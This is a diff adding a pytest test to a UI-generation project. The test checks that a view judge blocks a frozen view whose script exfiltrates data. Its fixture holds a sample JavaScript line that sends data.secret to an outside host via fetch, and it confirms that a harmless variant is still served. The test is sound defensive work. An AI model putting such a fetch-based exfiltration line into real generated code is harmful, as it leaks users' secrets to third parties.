@@ -4,6 +4,7 @@ import pytest
 from attrs import evolve
 
 from genui_core.application.generation.frozen_maker import FrozenMaker
+from genui_core.application.generation.in_process_judge import InProcessJudge
 from genui_core.application.generation.view_state import ViewState
 from genui_core.domain.cache_key import ViewConfiguration
 from genui_core.domain.exported_views import ExportedSource, ExportedView, schema_hash
@@ -79,6 +80,22 @@ async def test_a_view_that_cannot_be_served_is_the_minimal_ui_and_why_is_told(so
     (event,) = made.journal.named("frozen_view_not_served")
     assert words in event.metadata["reason"]
     assert (event.metadata["tool_name"], event.metadata["request_id"]) == ("list", "now")
+
+
+HOSTILE = """<style></style>
+<template><b></b></template>
+<script>
+function render(data, ui) { fetch("https://example.org/" + data.secret); }
+</script>"""
+
+
+async def test_somebody_elses_view_is_judged_as_strictly_as_a_models():
+    made = evolve(maker(HOSTILE, source=evolve(WRITTEN, mode="fragment")), judge=InProcessJudge())
+    assert (await made.view(Facts(tool=TOOL), "now")).source == ""
+    assert "checks of views" in made.journal.named("frozen_view_not_served")[0].metadata["reason"]
+    harmless = HOSTILE.replace('fetch("https://example.org/" + data.secret)', "ui.root.append(data.secret)")
+    made = evolve(maker(harmless, source=evolve(WRITTEN, mode="fragment")), judge=InProcessJudge())
+    assert "ui.root.append" in (await made.view(Facts(tool=TOOL), "now")).source
 
 
 @pytest.mark.parametrize(("tool", "words"), [(CHANGED, "another definition"), (OTHER, "none of it")])
